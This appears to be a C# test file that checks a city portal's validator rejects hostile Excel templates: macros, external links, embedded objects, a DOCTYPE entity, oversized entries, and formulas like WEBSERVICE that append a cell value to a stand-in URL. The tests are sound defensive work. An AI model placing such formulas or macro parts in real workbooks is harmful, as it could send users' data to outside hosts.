using System.Text;
using OneStop.Domain;
using OneStop.Portal.Documents.CityForms;

namespace OneStop.Tests.CityForms;

/// <summary>Templates that are none, or would do harm: each is refused by a sentence that says what to do.</summary>
public sealed class HostileTemplateTests
{
    private const string Office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    private static readonly byte[] Compound = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];

    [Fact]
    public void A_file_that_is_no_workbook_is_refused()
    {
        Says([], "中身のないファイル");
        Says(Encoding.UTF8.GetBytes("氏名,電話"), ".xlsx");
        Says("%PDF-1.7 nothing"u8.ToArray(), ".xlsx");
        Says("MZ\u0090"u8.ToArray(), "安全のため");
        Says("PK\u0003\u0004 and no more"u8.ToArray(), "壊れている");
        Says(SomeTemplate.Bytes((SomeTemplate.Types, SomeTemplate.PartOf(SomeTemplate.Types).Replace("spreadsheetml.sheet.main", "wordprocessingml.document.main", StringComparison.Ordinal))), ".xlsx");
        Says(SomeTemplate.Bytes((SomeTemplate.Sheet1, "<worksheet>")), "もう一度保存");
        Says(SomeTemplate.Bytes((SomeTemplate.Workbook, null)), "もう一度保存");
        Says(SomeTemplate.With(SomeTemplate.Sheet1, "<worksheet", "<!DOCTYPE a [<!ENTITY b \"c\">]><worksheet"), "もう一度保存");
    }

    [Fact]
    public void An_encrypted_or_old_workbook_is_refused()
    {
        Says(CompoundWith("EncryptedPackage"), "パスワード");
        Says(CompoundWith("Workbook"), "古い形式");
    }

    [Fact]
    public void Macros_are_refused_under_whatever_name()
    {
        Says(SomeTemplate.Bytes(("xl/vbaProject.bin", "macro")), "マクロ");
        Says(SomeTemplate.Bytes((SomeTemplate.Types, SomeTemplate.PartOf(SomeTemplate.Types).Replace("openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled.main+xml", StringComparison.Ordinal))), "");
        Says(Related(SomeTemplate.WorkbookRelations, "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "renamed.bin"), "マクロ");
        Says(Related(SomeTemplate.WorkbookRelations, "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "sheet9.xml"), "マクロ");
    }

    [Fact]
    public void What_links_to_something_outside_is_refused_and_a_page_that_is_only_named_is_not()
    {
        Says(Related(SomeTemplate.WorkbookRelations, $"{Office}/externalLink", "externalLinks/externalLink1.xml"), "リンク");
        Says(Related(SomeTemplate.WorkbookRelations, $"{Office}/connections", "connections.xml"), "リンク");
        Says(Related(SomeTemplate.Sheet1Relations, $"{Office}/image", "http://example.jp/seen.png", isExternal: true), "リンク");
        Says(Related(SomeTemplate.Sheet1Relations, $"{Office}/hyperlink", "file://server/share/a.xlsx", isExternal: true), "リンク");
        Says(Related(SomeTemplate.Sheet1Relations, $"{Office}/oleObject", "../embeddings/a.bin"), "埋め込まれ");
        Says(Related(SomeTemplate.Sheet1Relations, $"{Office}/somethingNew", "a.xml"), "様式に使えないもの（somethingNew）");
        FormTemplate.Of(Related(SomeTemplate.Sheet1Relations, $"{Office}/hyperlink", "https://www.city.fukuoka.lg.jp/", isExternal: true));
    }

    [Fact]
    public void A_formula_that_could_send_values_elsewhere_is_refused_wherever_it_is()
    {
        Says(SomeTemplate.With(SomeTemplate.Sheet1, "D5*1.1", "WEBSERVICE(&quot;http://x/&quot;&amp;A1)"), "外部とやりとりする式（WEBSERVICE");
        Says(SomeTemplate.With(SomeTemplate.Workbook, "様式1!$D$6", "CALL(&quot;a&quot;,&quot;b&quot;)"), "外部とやりとりする式");
        Says(SomeTemplate.With(SomeTemplate.Sheet1, "D5&gt;D$6", "HYPERLINK(D5)"), "外部とやりとりする式");
    }

    [Fact]
    public void What_is_too_large_or_becomes_too_large_is_refused()
    {
        Says(SomeTemplate.Bytes(("xl/media/large.png", new string('a', 30_000_000))), "大きすぎます"); // packed it is small
        Says([.. SomeTemplate.Bytes(), .. new byte[6 * 1024 * 1024]], "5MBまで");
        Says(SomeTemplate.Bytes(Enumerable.Range(0, 400).Select(n => ($"xl/media/{n}.png", (string?)"a"))), "大きすぎます");
    }

    private static void Says(byte[] template, string words)
    {
        var sentence = Assert.Throws<RuleException>(() => FormTemplate.Of(template)).Message;
        Assert.Contains(words, sentence, StringComparison.Ordinal);
        Assert.EndsWith("。", sentence, StringComparison.Ordinal);
    }

    private static byte[] Related(string part, string type, string target, bool isExternal = false) =>
        SomeTemplate.With(part, "</Relationships>", $"<Relationship Id=\"rId99\" Type=\"{type}\" Target=\"{target}\"{(isExternal ? " TargetMode=\"External\"" : "")}/></Relationships>");

    /// <summary>A file of the old format with an entry of this name in its directory.</summary>
    private static byte[] CompoundWith(string stream)
    {
        var bytes = new byte[1024];
        Compound.CopyTo(bytes, 0);
        var name = Encoding.Unicode.GetBytes(stream);
        name.CopyTo(bytes, 512);
        bytes[512 + 64] = (byte)(name.Length + 2);
        bytes[512 + 66] = 2;
        return bytes;
    }
}
